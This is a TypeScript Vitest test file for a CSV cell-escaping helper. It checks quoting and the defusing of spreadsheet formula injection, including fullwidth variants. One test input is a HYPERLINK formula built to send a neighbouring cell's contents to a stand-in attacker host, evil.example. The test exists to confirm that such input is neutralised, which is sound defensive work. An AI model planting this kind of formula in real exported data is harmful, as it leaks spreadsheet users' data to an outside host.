import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "../../src/lib/csv";

describe("CSV cells a spreadsheet opens as data", () => {
	it("leaves plain cells as they are", () => {
		expect(csvLine(["sub_0a", "email", "ana@example.org", "login charts", "true", "2026-12-03T12:00:00.000Z"])).toBe(
			"sub_0a,email,ana@example.org,login charts,true,2026-12-03T12:00:00.000Z\r\n",
		);
		expect(csvCell("")).toBe("");
		expect(csvCell("a-b+c=d@e")).toBe("a-b+c=d@e");
	});

	it("quotes a cell with a comma, a quote or a line break, doubling its quotes", () => {
		expect(csvCell("a,b")).toBe('"a,b"');
		expect(csvCell('say "hi"')).toBe('"say ""hi"""');
		expect(csvCell("two\nlines")).toBe('"two\nlines"');
		expect(csvCell("cr\rhere")).toBe('"cr\rhere"');
	});

	it("neutralises a cell a spreadsheet would run as a formula with a leading '", () => {
		expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"click")@x.com')).toBe(
			`"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")@x.com"`,
		);
		for (const start of ["=", "+", "-", "@"]) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
		expect(csvCell("  =1+1")).toBe("'  =1+1");
		expect(csvCell("\t=1+1")).toBe("'\t=1+1");
		expect(csvCell("\rx")).toBe(`"'\rx"`);
		expect(csvCell("\tplain")).toBe("'\tplain");
		// Fullwidth = + - @, which some spreadsheets read as their ASCII forms.
		for (const start of ["\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"])
			expect(csvCell(`${start}SUM(A1)`)).toBe(`'${start}SUM(A1)`);
	});
});
